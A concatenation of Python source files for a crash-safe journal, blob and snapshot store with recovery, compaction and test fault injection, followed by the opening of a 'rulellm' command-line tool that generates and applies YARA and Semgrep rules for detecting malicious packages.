        for path in self.paths():
            loaded = self._load(path)
            if loaded is None or loaded.epoch < epoch:
                try:
                    path.unlink()
                    removed += 1
                except OSError:
                    pass
        return removed

    def remove_strays(self) -> int:
        removed = 0
        for stray in self.directory.glob("*.tmp"):
            try:
                stray.unlink()
                removed += 1
            except OSError:
                pass
        return removed


__all__ = [
    "BlobStore",
    "ManifestIndex",
    "MissingBlob",
    "SnapshotManifest",
    "blob_digest",
]
