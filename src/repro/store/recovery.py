"""Opening a store is a recovery: fsck, truncate torn writes, report.

A :class:`RuleStore` is the durable root the rest of the system journals
into::

    root/
      journal/    segment-<n>.wal          (write-ahead record log)
      blobs/      <aa>/<digest>.blob       (content-addressed payloads)
      snapshots/  snapshot-<epoch>.json    (registry state manifests)

:func:`open_store` never trusts the directory it is handed.  It scans every
journal segment frame by frame, truncates the torn tail a crash left behind,
sweeps half-written scratch files out of the blob and snapshot directories,
checks that every blob the latest manifest references actually exists, and
hands back a typed :class:`RecoveryReport` saying exactly what it found and
what it repaired — the same report ``rulellm store fsck`` prints and the CI
kill-and-resume smoke step uploads as an artifact.

The store itself stays subsystem-agnostic: the registry, the fleet
checkpointer, the gateway and the arena each know how to write *their*
records here (and how to fold them back), the store only guarantees the
records and blobs survive.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Optional

from repro.store.journal import (
    Journal,
    JournalCorruption,
    scan_segment,
)
from repro.store.snapshots import (
    BlobStore,
    ManifestIndex,
    SnapshotManifest,
    blob_digest,
)

JOURNAL_DIR = "journal"
BLOBS_DIR = "blobs"
SNAPSHOTS_DIR = "snapshots"


@dataclass
class RecoveryReport:
    """What opening (or fsck-ing) a store found and repaired."""

    root: str
    ok: bool = True
    created: bool = False  # the directory had no store before
    segments: int = 0
    records: int = 0
    last_epoch: int = 0
    torn_bytes_truncated: int = 0
    corrupt_segments: list[str] = field(default_factory=list)
    stray_files_removed: int = 0
    snapshot_epoch: Optional[int] = None  # latest usable manifest
    manifests: int = 0
    blobs: int = 0
    blob_bytes: int = 0
    missing_blobs: list[str] = field(default_factory=list)
    decayed_blobs: list[str] = field(default_factory=list)
    records_by_type: dict[str, int] = field(default_factory=dict)
    elapsed_seconds: float = 0.0
    notes: list[str] = field(default_factory=list)

    def to_dict(self) -> dict:
        return {
            "root": self.root,
            "ok": self.ok,
            "created": self.created,
            "segments": self.segments,
            "records": self.records,
            "last_epoch": self.last_epoch,
            "torn_bytes_truncated": self.torn_bytes_truncated,
            "corrupt_segments": list(self.corrupt_segments),
            "stray_files_removed": self.stray_files_removed,
            "snapshot_epoch": self.snapshot_epoch,
            "manifests": self.manifests,
            "blobs": self.blobs,
            "blob_bytes": self.blob_bytes,
            "missing_blobs": list(self.missing_blobs),
            "decayed_blobs": list(self.decayed_blobs),
            "records_by_type": dict(sorted(self.records_by_type.items())),
            "elapsed_seconds": round(self.elapsed_seconds, 6),
            "notes": list(self.notes),
        }

    def describe(self) -> str:
        state = "ok" if self.ok else "DAMAGED"
        repairs = []
        if self.torn_bytes_truncated:
            repairs.append(f"truncated {self.torn_bytes_truncated}B torn tail")
        if self.stray_files_removed:
            repairs.append(f"removed {self.stray_files_removed} stray file(s)")
        if self.corrupt_segments:
            repairs.append(f"{len(self.corrupt_segments)} corrupt segment(s)")
        if self.missing_blobs:
            repairs.append(f"{len(self.missing_blobs)} missing blob(s)")
        suffix = f" [{'; '.join(repairs)}]" if repairs else ""
        snapshot = (
            f", snapshot@{self.snapshot_epoch}" if self.snapshot_epoch else ""
        )
        return (
            f"store {self.root}: {state}, {self.records} records in "
            f"{self.segments} segment(s) (epoch {self.last_epoch}"
            f"{snapshot}), {self.blobs} blobs{suffix}"
        )


@dataclass
class CompactReport:
    """What one ``store compact`` pass folded away."""

    snapshot_epoch: int = 0
    segments_dropped: int = 0
    records_folded: int = 0
    records_carried: int = 0  # non-registry records re-appended past the snapshot
    manifests_pruned: int = 0
    blobs_collected: int = 0

    def to_dict(self) -> dict:
        return {
            "snapshot_epoch": self.snapshot_epoch,
            "segments_dropped": self.segments_dropped,
            "records_folded": self.records_folded,
            "records_carried": self.records_carried,
            "manifests_pruned": self.manifests_pruned,
            "blobs_collected": self.blobs_collected,
        }

    def describe(self) -> str:
        return (
            f"compacted to snapshot@{self.snapshot_epoch}: dropped "
            f"{self.segments_dropped} segment(s) / {self.records_folded} "
            f"record(s), carried {self.records_carried} forward, pruned "
            f"{self.manifests_pruned} manifest(s), collected "
            f"{self.blobs_collected} blob(s)"
        )


class RuleStore:
    """One durable root: journal + blobs + snapshot manifests."""

    def __init__(
        self,
        root: str | os.PathLike,
        journal: Journal,
        blobs: BlobStore,
        manifests: ManifestIndex,
        report: RecoveryReport,
    ) -> None:
        self.root = Path(root)
        self.journal = journal
        self.blobs = blobs
        self.manifests = manifests
        self.report = report  # how the last open went

    # -- snapshots ----------------------------------------------------------------
    def latest_manifest(self) -> Optional[SnapshotManifest]:
        return self.manifests.latest()

    def write_manifest(self, manifest: SnapshotManifest) -> SnapshotManifest:
        self.manifests.write(manifest)
        self.journal.append(
            "snapshot",
            {"epoch": manifest.epoch, "registry_blob": manifest.registry_blob},
        )
        return manifest

    # -- sub-stores ---------------------------------------------------------------
    def substore(self, *parts: str, durable: Optional[bool] = None) -> "RuleStore":
        """Open (creating if needed) a nested store, e.g. per gateway tenant."""
        safe = []
        for part in parts:
            cleaned = "".join(c if c.isalnum() or c in "._-" else "_" for c in part)
            if not cleaned or cleaned.startswith("."):
                raise ValueError(f"invalid substore path component {part!r}")
            safe.append(cleaned)
        store, _ = open_store(
            self.root.joinpath(*safe),
            durable=self.journal.durable if durable is None else durable,
        )
        return store

    # -- introspection ------------------------------------------------------------
    def info(self) -> dict:
        by_type: dict[str, int] = {}
        records = 0
        last_epoch = 0
        try:
            for record in self.journal.replay():
                records += 1
                last_epoch = record.epoch
                by_type[record.type] = by_type.get(record.type, 0) + 1
        except JournalCorruption:
            pass
        manifest = self.latest_manifest()
        segments = self.journal.segments()
        return {
            "root": str(self.root),
            "segments": len(segments),
            "journal_bytes": sum(p.stat().st_size for p in segments),
            "records": records,
            "records_by_type": dict(sorted(by_type.items())),
            "last_epoch": last_epoch,
            "snapshot_epoch": manifest.epoch if manifest else None,
            "manifests": len(self.manifests.paths()),
            **self.blobs.stats(),
        }

    def close(self) -> None:
        self.journal.close()

    def __enter__(self) -> "RuleStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- compaction ---------------------------------------------------------------
    def compact(self, registry=None) -> CompactReport:
        """Fold the journal prefix into a fresh snapshot and drop it.

        ``registry`` is the live :class:`~repro.scanserve.registry.
        RulesetRegistry` to snapshot; when ``None`` one is recovered from
        the store first (so ``rulellm store compact`` works offline).
        Non-registry records at or below the snapshot epoch that later
        recovery still needs — fleet shard checkpoints, the newest gateway
        job states, arena rounds — are *re-appended* past the snapshot
        before the prefix is dropped, so compaction never strands a
        resumable run.  Finally, blobs no longer referenced by any journal
        record or manifest are garbage-collected.
        """
        # deferred import: the store layer must stay import-independent of
        # the registry; compaction is the one operation that spans both
        from repro.scanserve.registry import RulesetRegistry

        report = CompactReport()
        if registry is None:
            registry = RulesetRegistry.from_store(self)

        snapshot_epoch = self.journal.last_epoch
        carry: list = []
        folded = 0
        for record in self.journal.replay():
            if record.epoch > snapshot_epoch:
                continue
            folded += 1
            if record.type in _CARRIED_TYPES:
                carry.append(record)
        carried = _dedupe_carried(carry)

        # seal the prefix *first*: the snapshot marker and the carried
        # copies land in a fresh segment, so every sealed segment holds only
        # records <= snapshot_epoch and the whole prefix drops in one pass
        self.journal.rotate()
        manifest = registry.snapshot(self)
        report.snapshot_epoch = manifest.epoch
        for record in carried:
            self.journal.append(record.type, record.data)
        report.records_carried = len(carried)

        dropped = self.journal.drop_segments_through(snapshot_epoch)
        report.segments_dropped = len(dropped)
        report.records_folded = folded if dropped else 0
        report.manifests_pruned = self.manifests.prune_before(manifest.epoch)

        live = manifest.referenced_blobs()
        try:
            for record in self.journal.replay():
                live.update(_record_blobs(record))
        except JournalCorruption:
            return report  # never GC with an unreadable journal
        for kept in self.manifests.all():
            live.update(kept.referenced_blobs())
        report.blobs_collected = self.blobs.collect_garbage(live)
        return report


#: Record types compaction must carry across a snapshot (registry records
#: are folded *into* the snapshot; these are independent state machines).
_CARRIED_TYPES = frozenset({
    "shard-complete", "fleet-start", "fleet-merge",
    "job-submitted", "job-started", "job-finished",
    "arena-round",
})


def _carried_identity(record) -> tuple:
    """Logical identity a carried record is deduplicated under.

    Compaction re-appends carried records past the snapshot, and the next
    compaction replays both the originals (if their segment survived) and
    the copies — without identity-keyed dedup every compact would double
    them.  Job transitions additionally collapse across types so only each
    job's newest state survives.
    """
    data = record.data
    if record.type.startswith("job-"):
        return ("job", str(data.get("id", "")))
    if record.type == "shard-complete":
        return (record.type, str(data.get("run_key", "")), str(data.get("label", "")))
    if record.type in ("fleet-start", "fleet-merge"):
        return (record.type, str(data.get("run_key", "")))
    if record.type == "arena-round":
        return (record.type, int(data.get("index", -1)))
    return (record.type, record.epoch)


def _dedupe_carried(records: list) -> list:
    """Keep only the newest record per logical identity, in epoch order."""
    latest: dict[tuple, object] = {}
    for record in records:
        latest[_carried_identity(record)] = record
    return sorted(latest.values(), key=lambda r: r.epoch)


def _record_blobs(record) -> set[str]:
    """Every blob digest a journal record references."""
    found: set[str] = set()
    for key in ("blob", "registry_blob", "rules_blob"):
        value = record.data.get(key)
        if isinstance(value, str) and value:
            found.add(value)
    return found


def open_store(
    root: str | os.PathLike,
    durable: bool = True,
    deep: bool = False,
    create: bool = True,
) -> tuple[RuleStore, RecoveryReport]:
    """fsck-validate ``root`` and return an attached :class:`RuleStore`.

    Repairs performed: torn journal tails truncated, scratch files from
    interrupted atomic writes swept, nothing else — corrupt mid-stream
    segments and missing blobs are *reported* (``report.ok = False``), not
    papered over.  ``deep=True`` re-hashes every blob against its address
    (fsck's ``--deep``); the default only existence-checks the blobs the
    latest manifest needs.
    """
    started = time.perf_counter()
    root = Path(root)
    report = RecoveryReport(root=str(root))
    is_new = not (root / JOURNAL_DIR).is_dir()
    if is_new and not create:
        raise FileNotFoundError(f"no store under {root}")
    report.created = is_new

    # journal: scan every sealed segment, truncate the tail's torn bytes
    journal = Journal(root / JOURNAL_DIR, durable=durable)
    report.torn_bytes_truncated = journal.truncated_bytes
    segments = journal.segments()
    report.segments = len(segments)
    for path in segments:
        scan = scan_segment(path)
        report.records += len(scan.records)
        if scan.records:
            report.last_epoch = max(report.last_epoch, scan.last_epoch)
        for record in scan.records:
            report.records_by_type[record.type] = (
                report.records_by_type.get(record.type, 0) + 1
            )
        if scan.corrupt:
            report.corrupt_segments.append(f"{path.name}: {scan.error}")
            report.ok = False

    blobs = BlobStore(root / BLOBS_DIR, durable=durable)
    manifests = ManifestIndex(root / SNAPSHOTS_DIR, durable=durable)
    report.stray_files_removed = blobs.remove_strays() + manifests.remove_strays()
    stats = blobs.stats()
    report.blobs = stats["blobs"]
    report.blob_bytes = stats["bytes"]
    report.manifests = len(manifests.paths())

    manifest = manifests.latest()
    if manifest is not None:
        report.snapshot_epoch = manifest.epoch
        for digest in sorted(manifest.referenced_blobs()):
            if digest not in blobs:
                report.missing_blobs.append(digest)
                report.ok = False

    if deep:
        for digest in blobs.digests():
            try:
                actual = blob_digest(blobs.get(digest))
            except Exception:
                actual = ""
            if actual != digest:
                report.decayed_blobs.append(digest)
                report.ok = False

    report.elapsed_seconds = time.perf_counter() - started
    store = RuleStore(root, journal, blobs, manifests, report)
    return store, report


__all__ = [
    "BLOBS_DIR",
    "CompactReport",
    "JOURNAL_DIR",
    "RecoveryReport",
    "RuleStore",
    "SNAPSHOTS_DIR",
    "open_store",
]
