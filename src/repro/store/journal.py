"""Append-only write-ahead journal with checksummed, length-prefixed records.

Every durable state change in the system — a registry publish, an
activation, a retirement, a fleet shard completing, a gateway job changing
state, an arena round — lands here *first*, as one framed record:

    +----------------+----------------+------------------------+
    | length (u32 BE)| crc32 (u32 BE) | payload (JSON, length) |
    +----------------+----------------+------------------------+

The payload is a JSON envelope ``{"epoch", "type", "ts", "data"}`` where
``epoch`` is the journal-wide logical sequence number (a monotonically
increasing record counter — the store's clock: snapshots, checkpoints and
leaderboards all anchor to it).

Records append to the current *segment* file (``segment-<n>.wal``); when a
segment crosses ``segment_max_bytes`` the journal rotates: fsync the full
segment, create the next one (starting with a magic header), fsync the
directory so the new entry survives a crash.  Segments are immutable once
rotated away from, which is what makes compaction ("drop every segment the
latest snapshot already covers") a plain ``unlink``.

Crash behavior on replay: a torn record at the *tail* of the last segment
(the write the crash interrupted) is truncated away; a corrupt record in
the *middle* of the stream is a real integrity failure — replay stops there
and reports every dropped record rather than guessing at resynchronization.
"""

from __future__ import annotations

import json
import os
import struct
import threading
import time
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterator, Optional

from repro.obs.metrics import get_registry
from repro.utils.atomic import fsync_dir

_JOURNAL_APPENDS = get_registry().counter(
    "repro_journal_appends_total", "Journal records appended, by record type.", ("type",)
)
_JOURNAL_BYTES = get_registry().counter(
    "repro_journal_bytes_total", "Framed bytes appended to the journal."
)
_JOURNAL_ROTATIONS = get_registry().counter(
    "repro_journal_rotations_total", "Journal segment rotations."
)

#: Segment file header; also the format version gate.
SEGMENT_MAGIC = b"RWAL1\n"
_FRAME = struct.Struct(">II")  # payload length, crc32(payload)
#: Frames larger than this are rejected on append and treated as corruption
#: on replay (a bogus length prefix must not trigger a gigabyte read).
MAX_RECORD_BYTES = 64 * 1024 * 1024
DEFAULT_SEGMENT_MAX_BYTES = 8 * 1024 * 1024

# -- record types -------------------------------------------------------------------
#: Registry lifecycle.
PUBLISH = "publish"
ACTIVATE = "activate"
RETIRE = "retire"
#: Fleet checkpoints (see :mod:`repro.store.checkpoints`).
FLEET_START = "fleet-start"
SHARD_COMPLETE = "shard-complete"
FLEET_MERGE = "fleet-merge"
#: Gateway job transitions.
JOB_SUBMITTED = "job-submitted"
JOB_STARTED = "job-started"
JOB_FINISHED = "job-finished"
#: Arena rounds.
ARENA_ROUND = "arena-round"
#: Snapshot manifests written (bookkeeping marker).
SNAPSHOT = "snapshot"

RECORD_TYPES = frozenset({
    PUBLISH, ACTIVATE, RETIRE,
    FLEET_START, SHARD_COMPLETE, FLEET_MERGE,
    JOB_SUBMITTED, JOB_STARTED, JOB_FINISHED,
    ARENA_ROUND, SNAPSHOT,
})


class JournalCorruption(ValueError):
    """A mid-stream record failed validation (not a truncatable torn tail)."""


@dataclass(frozen=True)
class JournalRecord:
    """One replayed (or just-appended) journal record."""

    epoch: int
    type: str
    ts: float
    data: dict
    segment: str = ""
    offset: int = 0  # frame start within the segment

    def to_dict(self) -> dict:
        return {
            "epoch": self.epoch,
            "type": self.type,
            "ts": self.ts,
            "data": self.data,
        }


@dataclass
class SegmentScan:
    """What scanning one segment file found."""

    path: Path
    records: list[JournalRecord] = field(default_factory=list)
    valid_bytes: int = 0  # header + every intact frame
    torn_bytes: int = 0  # trailing bytes of an interrupted append
    corrupt: bool = False  # bad header or mid-stream corruption
    error: str = ""

    @property
    def last_epoch(self) -> int:
        return self.records[-1].epoch if self.records else 0


def _segment_number(path: Path) -> int:
    stem = path.stem  # segment-<n>
    try:
        return int(stem.rsplit("-", 1)[1])
    except (IndexError, ValueError):
        return -1


def scan_segment(path: Path) -> SegmentScan:
    """Validate one segment file frame by frame.

    Returns every intact record plus exact byte accounting: a clean file
    has ``valid_bytes == file size``; an interrupted append leaves
    ``torn_bytes`` (truncatable); anything else marks the segment corrupt
    at the first bad frame.
    """
    scan = SegmentScan(path=path)
    try:
        blob = path.read_bytes()
    except OSError as exc:
        scan.corrupt = True
        scan.error = f"unreadable: {exc}"
        return scan
    if not blob.startswith(SEGMENT_MAGIC):
        scan.corrupt = True
        scan.error = "bad segment magic"
        return scan
    position = len(SEGMENT_MAGIC)
    total = len(blob)
    while position < total:
        header = blob[position:position + _FRAME.size]
        if len(header) < _FRAME.size:
            scan.torn_bytes = total - position
            break
        length, checksum = _FRAME.unpack(header)
        if length > MAX_RECORD_BYTES:
            scan.corrupt = True
            scan.error = f"frame at offset {position} claims {length} bytes"
            break
        payload = blob[position + _FRAME.size:position + _FRAME.size + length]
        if len(payload) < length:
            scan.torn_bytes = total - position
            break
        if zlib.crc32(payload) != checksum:
            # a bad checksum at the very tail is a torn (partially flushed)
            # append; earlier it is genuine corruption
            if position + _FRAME.size + length == total:
                scan.torn_bytes = total - position
            else:
                scan.corrupt = True
                scan.error = f"checksum mismatch at offset {position}"
            break
        try:
            envelope = json.loads(payload.decode("utf-8"))
            record = JournalRecord(
                epoch=int(envelope["epoch"]),
                type=str(envelope["type"]),
                ts=float(envelope.get("ts", 0.0)),
                data=dict(envelope.get("data", {})),
                segment=path.name,
                offset=position,
            )
        except (ValueError, KeyError, TypeError) as exc:
            scan.corrupt = True
            scan.error = f"undecodable payload at offset {position}: {exc}"
            break
        scan.records.append(record)
        position += _FRAME.size + length
        scan.valid_bytes = position
    else:
        scan.valid_bytes = position
    if not scan.records:
        scan.valid_bytes = max(scan.valid_bytes, len(SEGMENT_MAGIC))
    return scan


class Journal:
    """The store's append-only record log.

    ``durable=True`` fsyncs every append (the write-ahead contract);
    ``durable=False`` trades that for speed in tests and bulk rebuilds —
    atomic framing and torn-tail recovery still hold, power loss may just
    drop the newest records.

    Use :func:`repro.store.recovery.open_store` (or :meth:`Journal.open`)
    to attach to an existing directory — opening validates every segment
    and truncates a torn tail before the first append.
    """

    def __init__(
        self,
        directory: str | os.PathLike,
        durable: bool = True,
        segment_max_bytes: int = DEFAULT_SEGMENT_MAX_BYTES,
    ) -> None:
        if segment_max_bytes < len(SEGMENT_MAGIC) + _FRAME.size:
            raise ValueError("segment_max_bytes is too small for one record")
        self.directory = Path(directory)
        self.durable = durable
        self.segment_max_bytes = segment_max_bytes
        self._lock = threading.Lock()
        self._handle = None  # open file of the current segment
        self._segment_path: Optional[Path] = None
        self._segment_bytes = 0
        self._last_epoch = 0
        self.truncated_bytes = 0  # torn tail removed at open time
        self._open_tail()

    # -- lifecycle ----------------------------------------------------------------
    def _open_tail(self) -> None:
        self.directory.mkdir(parents=True, exist_ok=True)
        segments = self.segments()
        if not segments:
            self._start_segment(1)
            return
        tail = segments[-1]
        scan = scan_segment(tail)
        if scan.corrupt:
            raise JournalCorruption(f"{tail.name}: {scan.error}")
        if scan.torn_bytes:
            with open(tail, "r+b") as handle:
                handle.truncate(scan.valid_bytes)
                if self.durable:
                    os.fsync(handle.fileno())
            self.truncated_bytes = scan.torn_bytes
        # the epoch continues from the highest record across *all* segments;
        # earlier segments are scanned lazily by replay/fsck, but the tail's
        # last epoch is enough because epochs are assigned in append order
        last = scan.last_epoch
        if not scan.records and len(segments) > 1:
            for earlier in reversed(segments[:-1]):
                previous = scan_segment(earlier)
                if previous.records:
                    last = previous.last_epoch
                    break
        self._last_epoch = last
        self._handle = open(tail, "ab")
        self._segment_path = tail
        self._segment_bytes = tail.stat().st_size

    def _start_segment(self, number: int) -> None:
        path = self.directory / f"segment-{number:08d}.wal"
        handle = open(path, "xb")
        handle.write(SEGMENT_MAGIC)
        handle.flush()
        if self.durable:
            os.fsync(handle.fileno())
            fsync_dir(self.directory)
        self._handle = handle
        self._segment_path = path
        self._segment_bytes = len(SEGMENT_MAGIC)

    def close(self) -> None:
        with self._lock:
            if self._handle is not None:
                self._handle.flush()
                if self.durable:
                    os.fsync(self._handle.fileno())
                self._handle.close()
                self._handle = None

    def __enter__(self) -> "Journal":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- appending ----------------------------------------------------------------
    def append(self, record_type: str, data: Optional[dict] = None) -> int:
        """Frame, append and (if durable) fsync one record; returns its epoch."""
        if record_type not in RECORD_TYPES:
            raise ValueError(f"unknown journal record type {record_type!r}")
        with self._lock:
            if self._handle is None:
                raise RuntimeError("journal is closed")
            epoch = self._last_epoch + 1
            payload = json.dumps(
                {
                    "epoch": epoch,
                    "type": record_type,
                    "ts": time.time(),
                    "data": data or {},
                },
                sort_keys=True,
                separators=(",", ":"),
            ).encode("utf-8")
            if len(payload) > MAX_RECORD_BYTES:
                raise ValueError(f"record of {len(payload)} bytes exceeds the frame limit")
            frame = _FRAME.pack(len(payload), zlib.crc32(payload)) + payload
            if (
                self._segment_bytes + len(frame) > self.segment_max_bytes
                and self._segment_bytes > len(SEGMENT_MAGIC)
            ):
                self._rotate_locked()
            self._write(frame)
            self._handle.flush()
            if self.durable:
                os.fsync(self._handle.fileno())
            self._segment_bytes += len(frame)
            self._last_epoch = epoch
            _JOURNAL_APPENDS.inc(type=record_type)
            _JOURNAL_BYTES.inc(len(frame))
            return epoch

    def _write(self, frame: bytes) -> None:
        """Single choke point for segment writes (fault injection hooks here)."""
        self._handle.write(frame)

    def rotate(self) -> Path:
        """Seal the current segment and start the next one."""
        with self._lock:
            return self._rotate_locked()

    def _rotate_locked(self) -> Path:
        if self._handle is None:
            raise RuntimeError("journal is closed")
        self._handle.flush()
        if self.durable:
            os.fsync(self._handle.fileno())
        self._handle.close()
        sealed = self._segment_path
        self._start_segment(_segment_number(sealed) + 1)
        _JOURNAL_ROTATIONS.inc()
        return sealed

    # -- reading ------------------------------------------------------------------
    def segments(self) -> list[Path]:
        if not self.directory.is_dir():
            return []
        found = [
            path
            for path in self.directory.glob("segment-*.wal")
            if _segment_number(path) >= 0
        ]
        return sorted(found, key=_segment_number)

    @property
    def last_epoch(self) -> int:
        with self._lock:
            return self._last_epoch

    def replay(self, after: int = 0) -> Iterator[JournalRecord]:
        """Yield every intact record with ``epoch > after``, in order.

        Readable concurrently with appends (replay reads the files, not the
        write handle); a torn tail — possible when replaying a directory a
        crashed process left behind — simply ends the iteration, mid-stream
        corruption raises :class:`JournalCorruption`.
        """
        with self._lock:
            if self._handle is not None:
                self._handle.flush()
        for path in self.segments():
            scan = scan_segment(path)
            for record in scan.records:
                if record.epoch > after:
                    yield record
            if scan.corrupt:
                raise JournalCorruption(f"{path.name}: {scan.error}")

    def records_by_type(self, record_type: str, after: int = 0) -> list[JournalRecord]:
        return [r for r in self.replay(after=after) if r.type == record_type]

    # -- compaction ---------------------------------------------------------------
    def drop_segments_through(self, epoch: int) -> list[Path]:
        """Unlink sealed segments whose records are all ``<= epoch``.

        The active (tail) segment is never dropped.  Returns the removed
        paths; used by ``store compact`` after a snapshot makes the prefix
        redundant.
        """
        dropped: list[Path] = []
        with self._lock:
            for path in self.segments():
                if path == self._segment_path:
                    continue
                scan = scan_segment(path)
                if scan.corrupt:
                    break
                if scan.records and scan.last_epoch > epoch:
                    break
                if not scan.records and self._last_epoch > epoch:
                    break
                path.unlink()
                dropped.append(path)
            if dropped and self.durable:
                fsync_dir(self.directory)
        return dropped


__all__ = [
    "ACTIVATE",
    "ARENA_ROUND",
    "DEFAULT_SEGMENT_MAX_BYTES",
    "FLEET_MERGE",
    "FLEET_START",
    "JOB_FINISHED",
    "JOB_STARTED",
    "JOB_SUBMITTED",
    "Journal",
    "JournalCorruption",
    "JournalRecord",
    "MAX_RECORD_BYTES",
    "PUBLISH",
    "RECORD_TYPES",
    "RETIRE",
    "SEGMENT_MAGIC",
    "SHARD_COMPLETE",
    "SNAPSHOT",
    "SegmentScan",
    "scan_segment",
]
