"""repro.store — durable state: write-ahead journal, snapshot blobs, recovery.

The store is the system's crash boundary.  Registry publishes, gateway job
transitions, arena rounds and fleet shard completions all journal here
before they take effect in memory; snapshots of the compiled registry land
in a content-addressed blob store so a restart is "load latest snapshot +
replay journal tail" — no recompilation, no lost provenance.  See
:func:`open_store` for the entry point and :mod:`repro.store.checkpoints`
for the resume machinery ``rulellm orchestrate --resume`` uses.
"""

from repro.store.checkpoints import (
    FleetCheckpointer,
    FleetReconciliation,
    ShardCheckpoint,
    fleet_run_key,
    rule_set_from_blob,
    rule_set_to_blob,
    shard_fingerprint,
)
from repro.store.faults import CrashPoint, SimulatedCrash
from repro.store.journal import (
    Journal,
    JournalCorruption,
    JournalRecord,
    SegmentScan,
    scan_segment,
)
from repro.store.recovery import (
    CompactReport,
    RecoveryReport,
    RuleStore,
    open_store,
)
from repro.store.snapshots import (
    BlobStore,
    ManifestIndex,
    MissingBlob,
    SnapshotManifest,
    blob_digest,
)

__all__ = [
    "BlobStore",
    "CompactReport",
    "CrashPoint",
    "FleetCheckpointer",
    "FleetReconciliation",
    "Journal",
    "JournalCorruption",
    "JournalRecord",
    "ManifestIndex",
    "MissingBlob",
    "RecoveryReport",
    "RuleStore",
    "SegmentScan",
    "ShardCheckpoint",
    "SimulatedCrash",
    "SnapshotManifest",
    "blob_digest",
    "fleet_run_key",
    "open_store",
    "rule_set_from_blob",
    "rule_set_to_blob",
    "scan_segment",
    "shard_fingerprint",
]
