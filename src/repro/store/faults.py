"""Fault injection for crash-safety tests.

:class:`CrashPoint` arms a byte budget on a journal: once the armed journal
has written ``at_byte`` more bytes, the write stops mid-frame and
:class:`SimulatedCrash` propagates — exactly what a power cut or SIGKILL
leaves on disk (a torn frame), without needing a subprocess.  Tests then
re-open the store and assert recovery truncates the torn tail and serves
the last consistent state.

The injection hooks :meth:`Journal._write`, the single choke point every
segment write funnels through, so mid-publish, mid-checkpoint and
mid-rotation crashes all fall out of one mechanism.
"""

from __future__ import annotations

from repro.store.journal import Journal


class SimulatedCrash(RuntimeError):
    """The injected fault fired: the process 'died' mid-write."""


class CrashPoint:
    """Kill journal writes after ``at_byte`` more bytes hit the segment.

    Partial semantics match a real crash: bytes *before* the budget line
    are written (and left on disk un-fsynced), everything after is lost.
    A budget of 0 kills the very next write before any byte lands.
    """

    def __init__(self, journal: Journal, at_byte: int) -> None:
        if at_byte < 0:
            raise ValueError("at_byte must be >= 0")
        self.journal = journal
        self.remaining = at_byte
        self.fired = False
        self._original = journal._write

    def arm(self) -> "CrashPoint":
        def failing_write(frame: bytes) -> None:
            if self.remaining >= len(frame):
                self.remaining -= len(frame)
                self._original(frame)
                return
            self.fired = True
            torn = frame[: self.remaining]
            self.remaining = 0
            if torn:
                self._original(torn)
            handle = self.journal._handle
            if handle is not None:
                handle.flush()  # the torn bytes reach the file, as a crash would
            raise SimulatedCrash(
                f"simulated crash: wrote {len(torn)}/{len(frame)} bytes"
            )

        self.journal._write = failing_write
        return self

    def disarm(self) -> None:
        self.journal._write = self._original

    def __enter__(self) -> "CrashPoint":
        return self.arm()

    def __exit__(self, *exc_info) -> None:
        self.disarm()


__all__ = ["CrashPoint", "SimulatedCrash"]
