"""Command-line interface (``rulellm``).

Three subcommands cover the common workflows:

``rulellm generate``
    Build a synthetic corpus (or load unpacked packages from a directory),
    run the RuleLLM pipeline and write the generated ``.yar`` / ``.yaml``
    rule files to an output directory.

``rulellm scan``
    Scan unpacked package directories with a previously generated rule set
    and print a verdict per package.

``rulellm evaluate``
    Regenerate the paper's headline comparison (Table VIII) at a chosen
    corpus scale.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from repro.core import RuleLLM, RuleLLMConfig
from repro.core.rules import GeneratedRuleSet
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner
from repro.evaluation.experiments import ExperimentSuite
from repro.extraction.unpacking import load_package_from_directory


def _add_generate(subparsers) -> None:
    parser = subparsers.add_parser("generate", help="generate YARA & Semgrep rules")
    parser.add_argument("--output", default="generated_rules", help="directory for the rule files")
    parser.add_argument("--model", default="gpt-4o", help="model profile (gpt-4o, claude-3.5-sonnet, ...)")
    parser.add_argument("--scale", type=float, default=0.05,
                        help="synthetic corpus scale relative to the paper (default 0.05)")
    parser.add_argument("--seed", type=int, default=1633)
    parser.add_argument("--packages", default=None,
                        help="directory of unpacked malicious packages to use instead of the synthetic corpus")


def _add_scan(subparsers) -> None:
    parser = subparsers.add_parser("scan", help="scan unpacked packages with generated rules")
    parser.add_argument("--rules", required=True, help="directory written by 'rulellm generate'")
    parser.add_argument("targets", nargs="+", help="unpacked package directories to scan")


def _add_evaluate(subparsers) -> None:
    parser = subparsers.add_parser("evaluate", help="regenerate the paper's Table VIII comparison")
    parser.add_argument("--scale", type=float, default=0.05)
    parser.add_argument("--model", default="gpt-4o")
    parser.add_argument("--seed", type=int, default=1633)


def _cmd_generate(args) -> int:
    config = RuleLLMConfig.full(model=args.model, seed=args.seed)
    pipeline = RuleLLM(config)
    if args.packages:
        root = Path(args.packages)
        packages = [load_package_from_directory(path, label="malware")
                    for path in sorted(root.iterdir()) if path.is_dir()]
        if not packages:
            print(f"no package directories found under {root}", file=sys.stderr)
            return 1
    else:
        dataset_config = DatasetConfig(scale=args.scale, seed=args.seed)
        packages = build_dataset(dataset_config).malware
    print(f"generating rules from {len(packages)} malicious packages with {args.model} ...")
    ruleset = pipeline.generate_rules(packages)
    output = ruleset.save(args.output)
    counts = ruleset.counts()
    print(f"wrote {counts['yara']} YARA and {counts['semgrep']} Semgrep rules to {output}")
    return 0


def _cmd_scan(args) -> int:
    ruleset = GeneratedRuleSet.load(args.rules)
    if not ruleset.rules:
        print(f"no rules found under {args.rules}", file=sys.stderr)
        return 1
    scanner = RuleScanner(
        yara_rules=ruleset.compile_yara() if ruleset.yara_rules else None,
        semgrep_rules=ruleset.compile_semgrep() if ruleset.semgrep_rules else None,
    )
    exit_code = 0
    for target in args.targets:
        package = load_package_from_directory(target)
        detection = scanner.scan_package(package)
        verdict = "MALICIOUS" if detection.match_count else "clean"
        if detection.match_count:
            exit_code = 2
        matched = ", ".join(detection.matched_rules[:5]) or "-"
        print(f"{target}: {verdict} ({detection.match_count} rules matched: {matched})")
    return exit_code


def _cmd_evaluate(args) -> int:
    dataset_config = DatasetConfig(scale=args.scale, seed=args.seed)
